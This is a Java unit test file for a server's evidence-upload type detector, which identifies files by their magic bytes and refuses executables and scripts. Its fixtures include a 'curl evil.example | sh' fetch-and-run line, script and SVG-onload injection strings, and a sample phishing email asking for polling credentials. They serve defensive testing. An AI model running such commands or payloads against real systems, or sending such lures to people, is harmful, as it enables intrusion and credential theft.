package org.vigie.server.evidence;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import org.junit.jupiter.api.Test;

/** A file's type is found in its first bytes, whatever its name or the client's claim. */
class EvidenceTypesTest {

    private static EvidenceTypes.Detected detect(byte[] bytes) {
        return EvidenceTypes.detect(bytes, bytes.length, false);
    }

    private static EvidenceTypes.Detected detect(String text) {
        return detect(text.getBytes(StandardCharsets.UTF_8));
    }

    private static byte[] bytes(int... values) {
        byte[] bytes = new byte[Math.max(values.length, 64)];
        for (int i = 0; i < values.length; i++) {
            bytes[i] = (byte) values[i];
        }
        return bytes;
    }

    private static byte[] ascii(String start, int length) {
        return Arrays.copyOf(start.getBytes(StandardCharsets.ISO_8859_1), length);
    }

    @Test
    void imagesDocumentsArchivesAndMediaAreRecognisedByTheirMagicBytes() {
        assertThat(detect(bytes(0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A)).mediaType()).isEqualTo("image/png");
        assertThat(detect(bytes(0xFF, 0xD8, 0xFF, 0xE0)).mediaType()).isEqualTo("image/jpeg");
        assertThat(detect(ascii("GIF89a", 64)).mediaType()).isEqualTo("image/gif");
        assertThat(detect(ascii("RIFF\0\0\0\0WEBPVP8 ", 64)).mediaType()).isEqualTo("image/webp");
        assertThat(detect(ascii("RIFF\0\0\0\0WAVEfmt ", 64)).mediaType()).isEqualTo("audio/wav");
        assertThat(detect(ascii("%PDF-1.7\n", 64)).mediaType()).isEqualTo("application/pdf");
        assertThat(detect(bytes('P', 'K', 3, 4, 20, 0)).mediaType()).isEqualTo("application/zip");
        assertThat(detect(bytes(0x1F, 0x8B, 8)).mediaType()).isEqualTo("application/gzip");
        assertThat(detect(bytes('7', 'z', 0xBC, 0xAF, 0x27, 0x1C)).mediaType()).isEqualTo("application/x-7z-compressed");
        assertThat(detect(ascii("\0\0\0\u0018ftypisom", 64)).mediaType()).isEqualTo("video/mp4");
        assertThat(detect(ascii("\0\0\0\u0014ftypqt  ", 64)).mediaType()).isEqualTo("video/quicktime");
        assertThat(detect(ascii("\0\0\0\u0018ftypheic", 64)).mediaType()).isEqualTo("image/heic");
        assertThat(detect(bytes(0x1A, 0x45, 0xDF, 0xA3, 0x9F, 0x42, 0x82, 0x84, 'w', 'e', 'b', 'm')).mediaType()).isEqualTo("video/webm");
        assertThat(detect(bytes(0x1A, 0x45, 0xDF, 0xA3, 0x9F, 0x42, 0x82, 0x88, 'm', 'a', 't', 'r')).mediaType()).isEqualTo("video/x-matroska");
        assertThat(detect(ascii("ID3\u0004", 64)).mediaType()).isEqualTo("audio/mpeg");
        assertThat(detect(bytes(0xFF, 0xFB, 0x90, 0x64)).mediaType()).isEqualTo("audio/mpeg");
        assertThat(detect(ascii("OggS\0\u0002", 64)).mediaType()).isEqualTo("audio/ogg");
    }

    @Test
    void textIsTextWhateverItSaysItIs() {
        assertThat(detect("account,posts\n@a,12\n").mediaType()).isEqualTo("text/plain");
        assertThat(detect("<!doctype html><script>alert(1)</script>").mediaType()).isEqualTo("text/plain");
        assertThat(detect("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>").mediaType()).isEqualTo("text/plain");
        assertThat(detect("[2027-03-01 10:00] bot network active").mediaType()).isEqualTo("text/plain");
        assertThat(detect("Élection présidentielle — bureau n°12\n").mediaType()).isEqualTo("text/plain");
        assertThat(detect("Élection, préfecture\r\n".getBytes(StandardCharsets.ISO_8859_1)).mediaType())
                .as("an 8-bit export, as Excel writes CSV on Windows").isEqualTo("text/plain");
        byte[] utf16 = "\uFEFFcompte;messages\r\n".getBytes(StandardCharsets.UTF_16LE);
        assertThat(detect(utf16).mediaType()).isEqualTo("text/plain");
    }

    @Test
    void jsonAndEmailAreRecognisedAmongText() {
        assertThat(detect("  {\"type\": \"bundle\"}").mediaType()).isEqualTo("application/json");
        assertThat(detect("[{\"id\": 1}]").mediaType()).isEqualTo("application/json");
        assertThat(detect("""
                Return-Path: <phish@evil.example>
                Received: from mx.evil.example
                From: "Electoral commission" <noreply@commission-valdoria.example>
                To: officer@commune.example
                Subject: Urgent: confirm your polling station credentials
                Date: Sat, 1 Mar 2027 10:00:00 +0100

                Click here.
                """).mediaType()).isEqualTo("message/rfc822");
        assertThat(detect("From: me\nnot really a message\n").mediaType()).isEqualTo("text/plain");
    }

    @Test
    void aCharacterCutAtTheEndOfTheWindowIsStillText() {
        byte[] text = "é".repeat(EvidenceTypes.TEXT_WINDOW).getBytes(StandardCharsets.UTF_8);
        // the window ends in the middle of a two-byte character
        assertThat(EvidenceTypes.detect(text, EvidenceTypes.TEXT_WINDOW + 1, true).mediaType()).isEqualTo("text/plain");
    }

    @Test
    void programsAndScriptsAreRefusedAndNamed() {
        assertThat(detect(ascii("MZ\u0090\0\u0003", 64))).isEqualTo(EvidenceTypes.Detected.refused("Windows executable (MZ)"));
        assertThat(detect(bytes(0x7F, 'E', 'L', 'F', 2, 1, 1)).description()).isEqualTo("ELF executable");
        assertThat(detect(bytes(0xCF, 0xFA, 0xED, 0xFE)).description()).isEqualTo("Mach-O executable");
        assertThat(detect("#!/bin/sh\ncurl evil.example | sh\n").description()).isEqualTo("script (#!)");
        assertThat(detect(bytes(0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1)).description()).startsWith("OLE compound file");
        assertThat(detect(ascii("RIFF\0\0\0\0AVI LIST", 64)).description()).isEqualTo("RIFF container (AVI )");
        assertThat(detect(bytes(0x00, 0x01, 0x02, 0x03, 0x10)).accepted()).isFalse();
        assertThat(detect(bytes(0x00, 0x01, 0x02, 0x03, 0x10)).description()).isEqualTo("binary data not recognised");
        assertThat(detect("text with a NUL\0inside").accepted()).isFalse();
    }
}
